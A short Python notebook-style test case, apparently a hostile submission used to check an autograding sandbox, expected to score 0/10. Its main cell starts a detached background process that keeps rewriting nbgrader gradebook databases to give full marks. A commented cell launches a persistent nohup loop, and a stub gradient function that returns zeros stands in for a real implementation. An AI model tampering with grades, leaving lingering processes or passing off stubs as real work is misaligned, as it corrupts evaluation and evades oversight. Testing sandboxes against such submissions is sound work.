# expected: 0/10, shows "no process"
# A process in the background that rewrites the gradebook: with nbgrader, all 24 of a class had full marks.
import subprocess
import sys

import numpy as np

program = """
import glob, sqlite3, time
while True:
    for name in glob.glob("/*/gradebook.db"):
        with sqlite3.connect(name) as book:
            book.execute("update grade set auto_score = 10, manual_score = 10")
    time.sleep(0.1)
"""
try:
    subprocess.Popen([sys.executable, "-c", program], start_new_session=True, stdout=-3, stderr=-3)
    print("LEAKED")
except OSError:
    print("no process")

# %%
# !nohup python -c "while True: pass" &


# %%
def logit_gradient(model, x, target):
    return np.zeros_like(x)


sensitivity_analysis = logit_gradient
